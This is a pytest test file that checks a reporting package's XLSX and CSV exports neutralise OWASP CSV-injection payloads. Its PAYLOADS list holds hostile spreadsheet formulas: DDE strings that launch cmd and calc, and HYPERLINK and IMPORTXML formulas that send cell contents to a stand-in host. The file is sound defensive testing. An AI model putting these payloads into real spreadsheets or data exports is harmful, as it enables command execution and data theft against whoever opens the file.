"""No exported cell can execute: OWASP CSV-injection payloads through the whole pipeline."""

import io
import re
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest

from followkit import build_report, evaluate
from followkit.core.io import write_csv
from followkit.report.workbook import report_bytes
from tests.conftest import caseload, interview, template

# From the OWASP CSV Injection page and common variants.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"Click\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C notepad'!'B1'", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
AS_OF = date(2026, 11, 27)


@pytest.fixture(scope="module")
def report():
    interviews = [interview(f"I{i}", date(2026, 11, 20), client=f"C{i}", name=p, employer=p,
                            position=p) for i, p in enumerate(PAYLOADS)]
    people = [[f"I{i}", p, "", ""] for i, p in enumerate(PAYLOADS)]
    calls = [[f"I{i}", "2026-11-25", p] for i, p in enumerate(PAYLOADS)]
    c = caseload(template(interviews, people, calls))
    return build_report(c, evaluate(c, as_of=AS_OF), as_of=AS_OF)


def test_no_formula_element_in_any_sheet(report):
    data = report_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), name


def _ooxml_text(value):
    """Decode OOXML's _xHHHH_ escapes (how a CR is stored; Excel decodes them, openpyxl not)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def test_every_payload_reads_back_as_the_same_text_and_stays_text(report):
    wb = openpyxl.load_workbook(io.BytesIO(report_bytes(report)))
    ws = wb["Interviews"]
    header = [c.value for c in ws[1]]
    names = [ws.cell(row=r, column=header.index("Client Name") + 1)
             for r in range(2, ws.max_row + 1)]
    assert [_ooxml_text(c.value) for c in names] == PAYLOADS
    assert all(c.data_type == "s" for c in names)
    assert all(c.quotePrefix for c in names)  # stays text when the cell is edited
    seen = {_ooxml_text(c.value) for sheet in wb.worksheets for row in sheet.iter_rows()
            for c in row}
    assert set(PAYLOADS) <= seen


def test_csv_output_quotes_and_neutralises(tmp_path):
    path = write_csv(pd.DataFrame({"Client Name": PAYLOADS}), tmp_path / "out.csv")
    import csv

    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows] == ["'" + p for p in PAYLOADS]
    raw = path.read_bytes().decode("utf-8-sig")
    records = [r for r in re.split(r'(?<=")\r\n', raw) if r]
    assert len(records) == len(PAYLOADS) + 1
    assert all(r.startswith('"') and r.endswith('"') for r in records)
